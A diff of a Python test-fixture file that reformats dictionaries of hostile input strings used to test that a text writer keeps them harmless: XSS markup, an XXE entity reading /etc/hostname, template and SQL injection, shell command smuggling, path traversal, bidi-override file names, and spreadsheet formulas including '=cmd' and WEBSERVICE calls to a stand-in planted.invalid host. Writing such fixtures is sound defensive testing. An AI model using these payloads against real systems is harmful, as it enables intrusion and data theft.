@@ -12,34 +12,26 @@ CANARY = "检测app"
 """Stands in every string: a writer that drops the whole text has not made it harmless, it has lost it."""
 
 MARKUP: Mapping[str, str] = {
-    "script": "<script>document.title='planted'</script>",
-    "image that fails": "<img src=x onerror=\"document.title='planted'\">",
+    "script": "<script>document.title='planted'</script>", "image that fails": "<img src=x onerror=\"document.title='planted'\">",
     "out of an attribute": '" onmouseover="document.title=\'planted\'" x="',
     "out of a single-quoted attribute": "' autofocus onfocus='document.title=1' x='",
-    "out of a style": "</style><style>body{display:none}</style>",
-    "out of a comment": "--><b id=planted>bold</b><!--",
+    "out of a style": "</style><style>body{display:none}</style>", "out of a comment": "--><b id=planted>bold</b><!--",
     "out of a title": "</title><meta http-equiv=refresh content='0;url=http://planted.invalid/'>",
-    "out of a table": "</td></tr></table><h1 id=planted>clear</h1>",
-    "out of CDATA": "]]><planted/><![CDATA[",
+    "out of a table": "</td></tr></table><h1 id=planted>clear</h1>", "out of CDATA": "]]><planted/><![CDATA[",
     "vector graphics": "<svg onload=\"document.title='planted'\"><foreignObject/></svg>",
     "entity of XML": "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/hostname'>]>&b;",
-    "entity of HTML": "&lt;script&gt; &#60;b&#62; &amp;amp; &nbsp;",
-    "template": "{{ 7*7 }} {% for a in b %} ${7*7} #{7*7}",
+    "entity of HTML": "&lt;script&gt; &#60;b&#62; &amp;amp; &nbsp;", "template": "{{ 7*7 }} {% for a in b %} ${7*7} #{7*7}",
     "address that runs": "javascript:document.title='planted'",
     "address that is asked for": "<link rel=stylesheet href=//planted.invalid/a.css><iframe src=//planted.invalid>",
     "processing instruction": "<?xml version='1.0'?><?xml-stylesheet href='planted.xsl'?>",
     "wiki of a tracker": "{code}{html}<b>x</b>{html}{code} !http://planted.invalid/a.png! [~admin] *bold*",
     "markdown": "[x](javascript:alert(1)) ![y](http://planted.invalid/a.png) | a | b |\n---\n# head",
-}
+}  # fmt: skip
 BIDI: Mapping[str, str] = {
-    "override": "\u202egnp.exe\u202c",
-    "embedding left open": "\u202bfedcba",
-    "isolates": "\u2067abc\u2066def\u2069\u2069",
-    "marks": "a\u200eb\u200fc\u061cd",
-    "invisible": "pay\u200bpal\u2060\ufeff\u00ad\u180e",
-    "tags": "a\U000e0041\U000e007fb",
+    "override": "\u202egnp.exe\u202c", "embedding left open": "\u202bfedcba", "isolates": "\u2067abc\u2066def\u2069\u2069",
+    "marks": "a\u200eb\u200fc\u061cd", "invisible": "pay\u200bpal\u2060\ufeff\u00ad\u180e", "tags": "a\U000e0041\U000e007fb",
     "lines of Unicode": "first\u2028second\u2029third\u0085fourth",
-}
+}  # fmt: skip
 CONTROL: Mapping[str, str] = {
     "colour of a terminal": "\x1b[31mred\x1b[0m",
     "terminal cleared": "\x1b[2J\x1b[H\x1bc",
@@ -67,37 +59,18 @@ UNICODE: Mapping[str, str] = {
     "above the first plane": "𠮷野家 \U0001d54f",
 }
 FORMULAS: Mapping[str, str] = {
-    "equals": "=1+1",
-    "plus": "+1+1",
-    "minus": "-1+1",
-    "at": "@SUM(1,1)",
-    "tab": "\t=1+1",
-    "return": "\r=1+1",
-    "line end": "\n=1+1",
-    "space": " =1+1",
-    "command": "=cmd|'/c calc'!A1",
-    "link": '=HYPERLINK("http://planted.invalid?x="&A1,"clear")',
-    "data of the web": '=WEBSERVICE("http://planted.invalid")',
-    "wide equals": "＝1+1",
-    "wide plus": "＋1+1",
-    "wide minus": "－1+1",
-    "wide at": "＠SUM(1)",
-    "next cell": '",=1+1,"',
-    "next cell by semicolon": "a;=1+1",
-    "next row": '"\r\n=1+1,"',
-    "apostrophe": "'=1+1",
+    "equals": "=1+1", "plus": "+1+1", "minus": "-1+1", "at": "@SUM(1,1)", "tab": "\t=1+1", "return": "\r=1+1", "line end": "\n=1+1",
+    "space": " =1+1", "command": "=cmd|'/c calc'!A1", "link": '=HYPERLINK("http://planted.invalid?x="&A1,"clear")',
+    "data of the web": '=WEBSERVICE("http://planted.invalid")', "wide equals": "＝1+1", "wide plus": "＋1+1", "wide minus": "－1+1",
+    "wide at": "＠SUM(1)", "next cell": '",=1+1,"', "next cell by semicolon": "a;=1+1", "next row": '"\r\n=1+1,"', "apostrophe": "'=1+1",
     "after what is not seen": "\u200b=1+1",
-}
+}  # fmt: skip
 COMMANDS: Mapping[str, str] = {
-    "shell": "$(touch planted) `touch planted`; touch planted & | > planted",
-    "format": "%s %n %d {0} {name} {0.__class__}",
-    "path": "../../../../planted",
-    "path of Windows": "..\\..\\planted C:\\planted \\\\planted\\share",
-    "option": "--planted -rf",
-    "query": "'; DROP TABLE bugs; --",
-    "markup of rich": "[red]clear[/red] [link=http://planted.invalid]x[/link] [/]",
+    "shell": "$(touch planted) `touch planted`; touch planted & | > planted", "format": "%s %n %d {0} {name} {0.__class__}",
+    "path": "../../../../planted", "path of Windows": "..\\..\\planted C:\\planted \\\\planted\\share", "option": "--planted -rf",
+    "query": "'; DROP TABLE bugs; --", "markup of rich": "[red]clear[/red] [link=http://planted.invalid]x[/link] [/]",
     "null device": "CON NUL aux.txt",
-}
+}  # fmt: skip
 
 
 def _with_canary(kind: str, strings: Mapping[str, str]) -> dict[str, str]:
@@ -122,17 +95,9 @@ LONG: Mapping[str, str] = {
     "controls": CANARY + "\x1b[31m" * (MILLION // 5),
 }
 FILE_NAMES: tuple[str, ...] = (
-    "<img src=x onerror=1>.png",
-    "\u202egnp.exe",
-    "a\nb.txt",
-    "=1+1.csv",
-    "-rf",
-    "a b;c&d$(e).png",
-    "'\".png",
-    "\x1b[31m.png",
-    "截图 一.png",
-    "a" * 200 + ".png",
-)
+    "<img src=x onerror=1>.png", "\u202egnp.exe", "a\nb.txt", "=1+1.csv", "-rf", "a b;c&d$(e).png", "'\".png", "\x1b[31m.png",
+    "截图 一.png", "a" * 200 + ".png",
+)  # fmt: skip
 """Each is one name that Linux keeps; none leads out of its folder."""
 
 STEERS = re.compile(
